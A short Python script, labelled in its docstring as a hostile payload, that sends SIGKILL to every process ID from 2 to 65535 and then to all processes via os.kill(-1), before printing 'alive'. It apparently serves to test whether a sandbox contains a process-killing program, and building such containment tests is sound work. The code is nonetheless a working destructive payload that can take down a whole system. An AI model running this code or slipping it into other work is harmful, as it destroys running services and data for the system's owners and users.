"""A hostile payload: kills everything that it can, by name and at large, and says that it lives."""

import contextlib
import os
import signal

for number in range(2, 65536):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            continue
with contextlib.suppress(ProcessLookupError):  # when there is nobody left
    os.kill(-1, signal.SIGKILL)
print("alive")
